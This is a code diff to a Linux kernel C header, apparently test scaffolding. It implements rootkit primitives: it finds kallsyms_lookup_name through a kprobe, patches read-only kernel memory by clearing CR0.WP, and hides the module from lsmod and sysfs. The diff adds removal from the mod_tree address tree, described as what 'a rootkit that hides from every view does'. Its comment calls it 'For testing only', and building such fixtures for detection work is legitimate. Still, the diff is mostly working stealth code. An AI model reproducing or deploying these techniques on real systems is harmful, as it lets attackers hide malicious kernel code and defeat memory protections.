@@ -4,12 +4,16 @@
  * read-only kernel memory, hide the module and link it back.
  *
  * rkit_lookup(name): kallsyms_lookup_name, itself found with a kprobe.
- * rkit_poke(dst, src, len): a copy with CR0.WP cleared, interrupts off.
+ * rkit_poke(dst, src, len): a copy with CR0.WP cleared, interrupts off (4 or
+ * 8 bytes in one store).
  * rkit_hide(): unlink THIS_MODULE from the modules list (what lsmod reads)
  * and delete its kobject (/sys/module, module_kset's list); its memory
  * stays in mod_tree.  rkit_unhide(): link it back into both lists (not
  * sysfs); it then cannot be unloaded (its sysfs teardown would find no
- * directory).  module_mutex is not exported: like real rootkits, these go
+ * directory).  rkit_tree_erase(): take the module's core memory out of
+ * mod_tree too (the latched rb-tree of module addresses; what a rootkit
+ * that hides from every view does); rkit_tree_insert() puts it back.
+ * module_mutex is not exported: like real rootkits, these go
  * without it (the test guest is quiet while they run).  For testing only.
  */
 #ifndef RKIT_H
@@ -18,10 +22,11 @@
 #include <linux/kobject.h>
 #include <linux/kprobes.h>
 #include <linux/module.h>
+#include <linux/rbtree_latch.h>
 #include <linux/rculist.h>
 #include <asm/special_insns.h>
 
-static unsigned long rkit_lookup(const char *name)
+static unsigned long __maybe_unused rkit_lookup(const char *name)
 {
 	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
 	unsigned long (*kln)(const char *);
@@ -38,14 +43,19 @@ static inline void rkit_cr0_write(unsigned long v)
 	asm volatile("mov %0, %%cr0" : "+r"(v) : : "memory");
 }
 
-static void rkit_poke(void *dst, const void *src, size_t len)
+static void __maybe_unused rkit_poke(void *dst, const void *src, size_t len)
 {
 	unsigned long flags, cr0;
 
 	local_irq_save(flags);
 	cr0 = read_cr0();
 	rkit_cr0_write(cr0 & ~X86_CR0_WP);
-	memcpy(dst, src, len);
+	if (len == 8)		/* a pointer, a gate half: one store */
+		WRITE_ONCE(*(u64 *)dst, *(const u64 *)src);
+	else if (len == 4)	/* a rel32 */
+		WRITE_ONCE(*(u32 *)dst, *(const u32 *)src);
+	else
+		memcpy(dst, src, len);
 	rkit_cr0_write(cr0);
 	local_irq_restore(flags);
 }
@@ -66,7 +76,7 @@ static struct list_head *rkit_find_head(void)
 	return NULL;
 }
 
-static int rkit_hide(void)
+static int __maybe_unused rkit_hide(void)
 {
 	rkit_modules_head = rkit_find_head();
 	rkit_kset = THIS_MODULE->mkobj.kobj.kset;
@@ -79,7 +89,7 @@ static int rkit_hide(void)
 	return 0;
 }
 
-static void rkit_unhide(void)
+static void __maybe_unused rkit_unhide(void)
 {
 	if (!rkit_hidden)
 		return;
@@ -88,6 +98,48 @@ static void rkit_unhide(void)
 	list_add_tail(&THIS_MODULE->mkobj.kobj.entry, &rkit_kset->list);
 	spin_unlock(&rkit_kset->list_lock);
 	rkit_hidden = false;
+}
+
+static struct latch_tree_root *rkit_mod_tree;	/* mod_tree's first member */
+
+static __always_inline unsigned long rkit_mtn_base(struct latch_tree_node *n)
+{
+	return (unsigned long)container_of(n, struct mod_tree_node, node)->mod->core_layout.base;
+}
+
+static __always_inline bool rkit_mtn_less(struct latch_tree_node *a, struct latch_tree_node *b)
+{
+	return rkit_mtn_base(a) < rkit_mtn_base(b);
+}
+
+static __always_inline int rkit_mtn_comp(void *key, struct latch_tree_node *n)
+{
+	unsigned long v = (unsigned long)key, s = rkit_mtn_base(n);
+
+	if (v < s)
+		return -1;
+	return v >= s + container_of(n, struct mod_tree_node, node)->mod->core_layout.size;
+}
+
+static const struct latch_tree_ops rkit_mtn_ops = {
+	.less = rkit_mtn_less,
+	.comp = rkit_mtn_comp,
+};
+
+static int __maybe_unused rkit_tree_erase(void)
+{
+	rkit_mod_tree = (void *)rkit_lookup("mod_tree");
+	if (!rkit_mod_tree)
+		return -ENOENT;
+	latch_tree_erase(&THIS_MODULE->core_layout.mtn.node, rkit_mod_tree, &rkit_mtn_ops);
+	return 0;
+}
+
+static void __maybe_unused rkit_tree_insert(void)
+{
+	if (rkit_mod_tree)
+		latch_tree_insert(&THIS_MODULE->core_layout.mtn.node, rkit_mod_tree, &rkit_mtn_ops);
+	rkit_mod_tree = NULL;
 }
 
 #endif
